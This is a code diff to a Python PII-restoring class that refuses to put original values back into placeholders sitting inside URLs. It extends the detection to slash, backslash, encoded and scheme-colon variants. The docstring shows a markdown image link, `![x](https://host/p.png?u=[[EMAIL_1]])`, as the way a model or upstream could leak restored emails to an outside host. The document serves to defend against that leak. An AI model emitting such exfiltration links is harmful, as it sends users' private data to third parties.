@@ -24,57 +24,95 @@ class Restorer:
     A placeholder inside a URL is left as it is: a model — or an upstream that wants the data — can
     write `![x](https://host/p.png?u=[[EMAIL_1]])`, and the client's markdown renderer or tool
     would send the restored value to that host. "Inside a URL": the word it is in — delimited by
-    white space, quotes, angle brackets or parentheses — has a scheme's '://' before it. The word
-    is followed as the text is read, once, so the cost is linear in the answer whatever its shape
-    (walking back from each placeholder was quadratic: 2.9 s for 100 KB of placeholders). With
-    `json_escaped`, originals come back JSON-escaped, so that a name with a quote cannot break the
-    tool arguments it is in.
+    white space only, since a URL may hold quotes and parentheses (`?u='…'`, `/a(b)…`) — has had a
+    URL's mark before it: two slashes or backslashes (`//host`, protocol-relative; `https:\\\\host`,
+    which browsers read as `https://`), an encoded slash or backslash, or a web scheme's colon
+    (`https:host` is `https://host` to a browser). Between `<` and `>` (an HTML tag, a markdown
+    destination in angle brackets, both of which may hold spaces) a mark anywhere before the
+    placeholder counts; a blank line ends such a span. The text is read once, so the cost is linear
+    in the answer whatever its shape (walking back from each placeholder was quadratic: 2.9 s for
+    100 KB of placeholders). With `json_escaped`, originals come back JSON-escaped, so that a name
+    with a quote cannot break the tool arguments it is in — and two backslashes are one escaped
+    backslash (`C:\\\\Users`), no mark.
     """
 
-    __slots__ = ("_vault", "_json", "_in_url", "_carry")
+    __slots__ = ("_vault", "_json", "_marks", "_boundaries", "_in_url", "_in_angle", "_angle_url", "_carry")
 
     def __init__(self, vault: Vault, *, json_escaped: bool = False) -> None:
         self._vault = vault
         self._json = json_escaped
-        self._in_url = False  # the current word has had a '://'
-        self._carry = ""  # the current word's last two characters, for a '://' split between reads
+        self._marks = _JSON_URL_MARK if json_escaped else _URL_MARK
+        self._boundaries = _JSON_URL_BOUNDARY if json_escaped else None  # None: the module's _URL_BOUNDARY
+        self._in_url = False  # the current word has had a URL's mark
+        self._in_angle = False  # after a '<' that no '>' (or blank line) closed yet
+        self._angle_url = False  # ... and that span has had a URL's mark
+        self._carry = ""  # the current word's last characters, for a mark split between reads
 
     def complete_placeholder(self, partial: str) -> str | None:
         """See :meth:`Vault.complete_placeholder` (a stream's end cut inside a placeholder)."""
         return self._vault.complete_placeholder(partial)
 
+    def _read(self, piece: str) -> None:
+        """A piece of the current word (no boundary in it): does it, with what came before it in the
+        word, hold a URL's mark?"""
+        joined = self._carry + piece
+        if not self._in_url and self._marks.search(joined):
+            self._in_url = True
+        if self._in_url and self._in_angle:
+            self._angle_url = True
+        self._carry = joined[-_MARK_CARRY:]
+
     def restore(self, text: str) -> str:
         lookup = self._vault.lookup
-        read = 0  # text[:read] is accounted for in _in_url and _carry
+        read = 0  # text[:read] is accounted for in the word's and the span's state
 
         def advance(to: int) -> None:
             nonlocal read
             segment = text[read:to]
-            boundaries = list(_URL_BOUNDARY.finditer(segment))
-            if boundaries:
-                last = boundaries[-1]  # a new word begins after the last boundary
-                segment, self._carry, self._in_url = segment[last.end():], "", False
-            joined = self._carry + segment
-            self._in_url = self._in_url or "://" in joined
-            self._carry = joined[-2:]
+            start = 0
+            for boundary in (self._boundaries or _URL_BOUNDARY).finditer(segment):
+                if self._in_angle and not self._angle_url:
+                    self._read(segment[start:boundary.start()])
+                self._carry, self._in_url = "", False
+                mark = boundary.group()
+                if mark == "<":
+                    self._in_angle, self._angle_url = True, False
+                elif mark == ">" or mark.count("\n") > 1:
+                    self._in_angle = self._angle_url = False
+                start = boundary.end()
+            self._read(segment[start:])
             read = to
 
         def sub(m: re.Match[str]) -> str:
             advance(m.start())
-            if self._in_url:
+            if self._in_url or self._angle_url:
                 return m.group(0)
             var = m.group("var")
             original = lookup(m.group("type"), int(m.group("num")), int(var) if var else None)
             if original is None:
                 return m.group(0)
-            return json.dumps(original, ensure_ascii=False)[1:-1] if self._json else original
+            restored = json.dumps(original, ensure_ascii=False)[1:-1] if self._json else original
+            # A backslash before a placeholder written without escapes is the text's own (`C:\\Users\\`),
+            # not a markdown escape of its brackets (`\\[\\[PERSON_1\\]\\]`): it stays.
+            whole = m.group(0)
+            return "\\" + restored if whole.startswith("\\") and "\\" not in whole[1:] else restored
 
         restored = placeholder_pattern().sub(sub, text) if "[" in text or "\\" in text else text
         advance(len(text))
         return restored
 
 
-_URL_BOUNDARY = re.compile(r"[\s\"'<>()]")
+# What ends a word for the URL check (white space; a blank line also ends a '<' span), and opens or
+# closes a '<' span.
+_URL_BOUNDARY = re.compile(r"\n[^\S\n]*\n|[<>]|\s")
+# In JSON-escaped text a quote that is not escaped ends a string, so a word too (compact arguments:
+# `{"url":"https://…","to":"[[EMAIL_1]]"}`).
+_JSON_URL_BOUNDARY = re.compile(r'\n[^\S\n]*\n|[<>]|\s|(?<!\\)"')
+# A URL's mark within a word: two slashes or backslashes, an encoded slash or backslash, a web
+# scheme's colon. JSON-escaped text writes a backslash as two, so there only four are two.
+_URL_MARK = re.compile(r"[/\\]{2}|%2f|%5c|(?<![a-z0-9+.-])(?:https?|wss?|ftp):", re.IGNORECASE)
+_JSON_URL_MARK = re.compile(r"//|/\\|\\/|\\{4}|%2f|%5c|(?<![a-z0-9+.-])(?:https?|wss?|ftp):", re.IGNORECASE)
+_MARK_CARRY = 5  # a mark is at most six characters: the last five of a read may begin one
 
 
 def _complete_end(text: str, vault: Vault) -> str:
